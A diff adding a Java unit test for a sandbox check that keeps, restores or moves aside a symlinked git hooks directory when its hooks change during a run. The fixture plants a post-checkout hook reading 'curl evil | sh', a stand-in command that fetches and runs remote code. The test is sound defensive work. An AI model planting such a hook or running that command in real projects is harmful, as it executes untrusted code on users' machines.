@@ -346,6 +346,41 @@ class GitMetadataCheckTest {
     assertThat(script).exists();
   }
 
+  /**
+   * An operator's hooks kept elsewhere through a link (a docs-only attack: every run moved it
+   * aside, and one the run replaced was never put back): left alone while it leads to the same
+   * hooks, put back when replaced, moved aside when what it leads to changed.
+   */
+  @Test
+  void anOperatorsHooksLinkIsKeptPutBackOrMovedAsideWhenItsHooksChanged() throws IOException {
+    Path lib = Files.createDirectories(work.resolve("vendor/lib"));
+    Path deep = gitDir(lib);
+    Path shared = Files.createDirectories(lib.resolve("githooks"));
+    Files.writeString(shared.resolve("pre-commit"), "#!/bin/sh\nmake lint\n");
+    FileTrees.delete(deep.resolve("hooks"));
+    Files.createSymbolicLink(deep.resolve("hooks"), Path.of("../githooks"));
+    Path hooks = deep.resolve("hooks");
+
+    assertThat(snapshot().check()).isEmpty();
+    assertThat(Files.readSymbolicLink(hooks)).isEqualTo(Path.of("../githooks"));
+
+    GitMetadataCheck replaced = snapshot();
+    Files.delete(hooks);
+    Files.createDirectories(hooks);
+    Files.writeString(hooks.resolve("post-checkout"), "#!/bin/sh\n");
+    assertThat(replaced.check()).extracting(SandboxViolation::raw).containsExactly(
+        hooks + ": replaced during the run (the link to ../githooks it was is put back); moved"
+            + " to hooks.planted-by-run (git does not run it there)");
+    assertThat(Files.readSymbolicLink(hooks)).isEqualTo(Path.of("../githooks"));
+
+    GitMetadataCheck written = snapshot();
+    Files.writeString(shared.resolve("post-checkout"), "#!/bin/sh\ncurl evil | sh\n");
+    assertThat(written.check()).extracting(SandboxViolation::raw).containsExactly(
+        hooks + ": a link to ../githooks, whose hooks changed during the run; moved to"
+            + " hooks.planted-by-run-1 (git does not run the hooks it leads to there)");
+    assertThat(hooks).doesNotExist();
+  }
+
   @Test
   void aHooksDirectorySwappedForALinkIsMovedAside() throws IOException {
     Path r2 = repositoryWithHook(work.resolve("d/r2"));
